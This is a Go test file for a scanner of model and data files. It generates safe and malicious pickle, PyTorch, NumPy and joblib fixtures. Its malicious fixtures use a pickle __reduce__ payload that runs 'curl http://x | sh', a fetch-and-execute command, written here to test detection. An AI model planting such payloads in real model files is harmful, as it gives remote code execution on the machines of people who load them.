package scan

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// pythonFixtures writes real files with the system Python's torch, numpy,
// joblib and scikit-learn: the formats as their libraries produce them.
const pythonFixtures = `
import os, pickle, sys
import numpy as np, torch, joblib
from collections import OrderedDict
out = sys.argv[1]
p = lambda n: os.path.join(out, n)

class Evil:
    def __reduce__(self):
        return (os.system, ('curl http://x | sh',))

# benign
torch.save(OrderedDict(w=torch.randn(3, 4), b=torch.zeros(4), n=torch.tensor([1, 2]), m=torch.tensor([True])), p('good_state_dict.pt'))
torch.save(torch.nn.Linear(4, 2).state_dict(), p('good_legacy.pt'), _use_new_zipfile_serialization=False)
with open(p('good_numpy.pkl'), 'wb') as f:
    pickle.dump({'x': np.arange(6.0).reshape(2, 3), 'y': np.int64(3)}, f, protocol=4)
with open(p('good_plain.pkl'), 'wb') as f:
    pickle.dump({'a': [1, 2.5, 'three', None, True], 'b': (b'x', {4})}, f, protocol=2)
np.save(p('good.npy'), np.random.rand(5, 5).astype(np.float32))
np.savez_compressed(p('good.npz'), a=np.arange(10), b=np.ones((2, 2)))
arrays = {'w': np.random.rand(100), 'i': np.arange(7, dtype=np.int16)}
joblib.dump(arrays, p('good_arrays.joblib'))
for c in ['zlib', 'gzip', 'bz2', 'xz', 'lzma']:
    joblib.dump(arrays, p('good_arrays_%s.joblib' % c), compress=(c, 3))
joblib.dump({'o': np.array(['a', 1, None], dtype=object), 'f': np.ones(4)}, p('good_object_array.joblib'))

# unsafe
for proto in range(6):
    with open(p('evil_p%d.pkl' % proto), 'wb') as f:
        pickle.dump(Evil(), f, protocol=proto)
torch.save({'model': Evil()}, p('evil_zip.pt'))
torch.save({'model': Evil()}, p('evil_legacy.pt'), _use_new_zipfile_serialization=False)
for c in ['zlib', 'gzip', 'bz2', 'xz', 'lzma']:
    joblib.dump({'w': np.ones(3), 'm': Evil()}, p('evil_%s.joblib' % c), compress=(c, 3))
joblib.dump({'f': np.ones(4), 'o': np.array([Evil(), 1], dtype=object), 'g': np.zeros(2)}, p('evil_object_array.joblib'))
np.save(p('evil_object.npy'), np.array([Evil(), 1], dtype=object), allow_pickle=True)

# pickles outside the allowlist
from sklearn.linear_model import LogisticRegression
X = np.random.rand(20, 3)
joblib.dump(LogisticRegression().fit(X, np.arange(20) % 2), p('sklearn.joblib'))
`

var (
	pyOnce sync.Once
	pyDir  string
	pyErr  string
)

// pythonCorpus generates the fixtures once per test binary, or skips.
func pythonCorpus(t *testing.T) string {
	t.Helper()
	pyOnce.Do(func() {
		py := "/usr/bin/python3"
		if err := exec.Command(py, "-c", "import torch, numpy, joblib, sklearn").Run(); err != nil {
			pyErr = "/usr/bin/python3 lacks torch, numpy, joblib or scikit-learn (Debian: python3-torch python3-numpy python3-joblib python3-sklearn)"
			return
		}
		dir, err := os.MkdirTemp("", "lockstep-scan-py-")
		if err != nil {
			pyErr = err.Error()
			return
		}
		out, err := exec.Command(py, "-c", pythonFixtures, dir).CombinedOutput()
		if err != nil {
			pyErr = "generate fixtures: " + err.Error() + ": " + string(out)
			return
		}
		pyDir = dir
	})
	if pyDir == "" {
		t.Skip(pyErr)
	}
	return pyDir
}

func TestMain(m *testing.M) {
	code := m.Run()
	if len(quickAudited.mismatch) > 0 {
		fmt.Fprintf(os.Stderr, "quick walks that differ from the full walk:\n%s\n", strings.Join(quickAudited.mismatch, "\n"))
		code = 1
	}
	if pyDir != "" {
		os.RemoveAll(pyDir)
	}
	os.Exit(code)
}

func scanPy(t *testing.T, name string, opts Options) *Report {
	t.Helper()
	rep, err := File(context.Background(), filepath.Join(pythonCorpus(t), name), opts)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}
